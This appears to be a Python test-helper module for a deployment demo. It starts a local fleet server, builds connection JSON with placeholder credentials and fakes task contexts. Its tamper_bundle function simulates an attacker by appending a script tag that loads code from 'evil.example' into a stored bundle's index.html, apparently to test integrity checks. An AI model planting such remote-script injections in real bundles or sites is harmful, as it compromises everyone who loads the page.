"""Test helpers: the real demo fleet in a thread, a fake task context."""

from __future__ import annotations

import importlib.util
import io
import json
import tarfile
import threading
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from tests.conftest import PROJECT_ROOT


def load_fleet_module():
    spec = importlib.util.spec_from_file_location("demo_fleet", PROJECT_ROOT / "include" / "demo_fleet" / "fleet.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@contextmanager
def running_fleet(
    seed: dict[str, str] | None = None,
    deploy_seconds: float = 0.3,
    credentials: tuple[str, str] | None = ("deployer", "s3cret-pass"),
):
    fleet_mod = load_fleet_module()
    fleet = fleet_mod.Fleet(deploy_seconds, seed or {})
    server = fleet_mod.serve("127.0.0.1", 0, fleet, credentials)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield fleet, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def http_connection(url: str, credentials: tuple[str, str] | None = ("deployer", "s3cret-pass")) -> str:
    conn: dict[str, Any] = {"conn_type": "http", "host": url}
    if credentials:
        conn.update(login=credentials[0], password=credentials[1])
    return json.dumps(conn)


class FakeTI:
    """Just enough of a task instance for ``xcom_pull``/``xcom_push``."""

    def __init__(self, xcoms: dict[tuple[str, str], Any] | None = None):
        self.xcoms = dict(xcoms or {})

    def xcom_pull(self, task_ids: str, key: str = "return_value") -> Any:
        return self.xcoms.get((task_ids, key))

    def xcom_push(self, key: str, value: Any) -> None:
        self.xcoms[("__self__", key)] = value


class FakeDagRun:
    def __init__(self, triggering_user_name: str | None, conf: dict | None = None):
        self.triggering_user_name = triggering_user_name
        self.conf = conf or {}


def context(
    ti: FakeTI, *, params: dict | None = None, triggered_by: str | None = "author", conf: dict | None = None
) -> dict[str, Any]:
    dag_run = FakeDagRun(triggered_by, conf if conf is not None else params)
    return {"ti": ti, "params": params or {}, "dag_run": dag_run, "run_id": "manual__test"}


def tamper_bundle(bundle: Path, member_suffix: str = "index.html") -> None:
    """Alter one file inside a stored bundle, as an attacker with write access would."""
    with tarfile.open(bundle, "r:gz") as tar:
        members = [(m, tar.extractfile(m).read()) for m in tar]
    with tarfile.open(bundle, "w:gz") as tar:
        for member, data in members:
            if member.name.endswith(member_suffix):
                data += b"<script src='https://evil.example/x.js'></script>"
                member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
